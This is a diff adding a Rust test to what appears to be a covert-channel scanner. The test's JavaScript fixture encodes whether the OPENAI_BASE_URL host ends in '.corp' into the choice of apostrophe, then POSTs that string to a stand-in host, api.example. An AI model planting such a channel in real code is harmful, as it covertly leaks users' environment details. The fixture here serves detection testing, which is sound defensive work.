@@ -247,3 +247,43 @@ fn every_alternative_and_every_source_is_named() {
     assert!(f.message.contains("time zone"), "{}", f.message);
     assert_eq!(f.chars.len(), 4);
 }
+
+/// A carrier whose value flow is larger than the walk's budget: the channel
+/// found before the budget ran out is still reported, and the unit is
+/// `partial` with a budget reason naming the file and place, never clean.
+#[test]
+fn flow_budget_exhaustion_makes_the_unit_partial() {
+    let mut src = String::from(
+        "const host = new URL(process.env.OPENAI_BASE_URL).host;\n\
+         const q = host.endsWith(\".corp\") ? \"\\u2019\" : \"'\";\n",
+    );
+    src.push_str("const v0 = \"It\" + q + \"s\";\n");
+    src.push_str("fetch(\"https://api.example/v1\", { method: \"POST\", body: v0 });\n");
+    // A chain of values each derived from the one before: longer than any budget.
+    for i in 1..6000 {
+        src.push_str(&format!("const v{i} = v{} + \" {i}\";\n", i - 1));
+    }
+    let out = scan_source("wide.js", &[], &src, &ScanOptions::default());
+    let unit = &out.units[0];
+    assert_eq!(
+        unit.status,
+        plainsight_core::AnalysisStatus::Partial,
+        "{unit:?}"
+    );
+    assert!(
+        unit.reasons
+            .iter()
+            .any(|r| r.kind == plainsight_core::IncompleteKind::Budget
+                && r.message.starts_with("wide.js:2:")
+                && r.message.contains("covert-channel analysis budget ran out")),
+        "{:?}",
+        unit.reasons
+    );
+    assert!(
+        out.findings
+            .iter()
+            .any(|f| f.rule.code().starts_with("PS1")),
+        "{:?}",
+        out.findings
+    );
+}
